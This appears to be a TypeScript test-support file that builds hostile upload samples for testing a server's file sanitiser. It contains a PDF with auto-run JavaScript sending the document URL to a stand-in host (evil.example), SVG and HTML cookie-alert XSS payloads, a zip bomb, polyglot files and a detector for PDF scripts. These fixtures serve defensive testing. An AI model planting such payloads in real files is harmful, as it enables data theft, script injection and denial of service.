import { crc32, deflateRawSync } from 'node:zlib';
import { PDFDict, PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { samplePdf, zip } from '../../server/src/test-support/sample-files.js';

/**
 * A ZIP whose last entry is deflated: `zip` stores entries as they are, so the entry is stored
 * as its compressed bytes and its headers are then told the truth (method 8, real size and CRC).
 */
export function zipWithDeflated(
  stored: { name: string; content: string }[],
  deflated: { name: string; content: Buffer },
): Buffer {
  const compressed = deflateRawSync(deflated.content, { level: 9 });
  const archive = zip([...stored, { name: deflated.name, content: compressed }]);
  const eocd = archive.length - 22;
  let central = archive.readUInt32LE(eocd + 16);
  for (let i = 0; i < stored.length; i++)
    central += 46 + archive.readUInt16LE(central + 28) + archive.readUInt16LE(central + 30);
  const local = archive.readUInt32LE(central + 42);
  const crc = crc32(deflated.content);
  archive.writeUInt16LE(8, local + 8);
  archive.writeUInt32LE(crc, local + 14);
  archive.writeUInt32LE(deflated.content.length, local + 22);
  archive.writeUInt16LE(8, central + 10);
  archive.writeUInt32LE(crc, central + 16);
  archive.writeUInt32LE(deflated.content.length, central + 24);
  return archive;
}

const OFD_ROOT = {
  name: 'OFD.xml',
  content:
    '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
};

/** A real PDF that runs JavaScript when opened (/OpenAction) and from a page (/AA). */
export async function pdfWithJavaScript(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  const script = () =>
    doc.context.obj({
      S: 'JavaScript',
      JS: PDFString.of("app.launchURL('https://evil.example/?'+this.URL)"),
    });
  doc.catalog.set(PDFName.of('OpenAction'), script());
  page.node.set(PDFName.of('AA'), doc.context.obj({ O: script() }));
  return Buffer.from(await doc.save());
}

/**
 * The JavaScript actions a PDF holds, found by parsing it (object streams included): every
 * dictionary with /S /JavaScript or a /JS entry, directly or one level down (/OpenAction, /AA).
 */
export async function javaScriptActionsIn(bytes: Uint8Array): Promise<number> {
  const doc = await PDFDocument.load(bytes, { ignoreEncryption: true, updateMetadata: false });
  const isScript = (dict: PDFDict) =>
    dict.get(PDFName.of('S')) === PDFName.of('JavaScript') || dict.has(PDFName.of('JS'));
  let found = 0;
  for (const [, object] of doc.context.enumerateIndirectObjects()) {
    if (!(object instanceof PDFDict)) continue;
    if (isScript(object)) found++;
    for (const value of object.values())
      if (value instanceof PDFDict) {
        if (isScript(value)) found++;
        for (const inner of value.values()) if (inner instanceof PDFDict && isScript(inner)) found++;
      }
  }
  return found;
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>fetch("/api/v1/accounts/me")</script></svg>',
);
export const HTML_PAGE = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
);
export const WINDOWS_EXE = Buffer.from(
  'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xffThis program cannot be run in DOS mode.',
  'latin1',
);

/** 64 MiB of zeros in a ~64 KiB ZIP, with and without the OFD.xml that makes a ZIP an OFD. */
export const zipBomb = (asOfd: boolean) =>
  zipWithDeflated(asOfd ? [OFD_ROOT] : [], {
    name: 'Doc_0/Res/bomb.xml',
    content: Buffer.alloc(64 * 1024 * 1024),
  });

/** Starts as a PDF, reads as an HTML page to anything that sniffs past the first line. */
export const pdfHtmlPolyglot = async () =>
  Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML_PAGE, await samplePdf()]);

/** A JPEG with an OFD package appended (a GIFAR-style polyglot). */
export const jpegZipPolyglot = () =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0xff, 0xd9]),
    zip([OFD_ROOT]),
  ]);
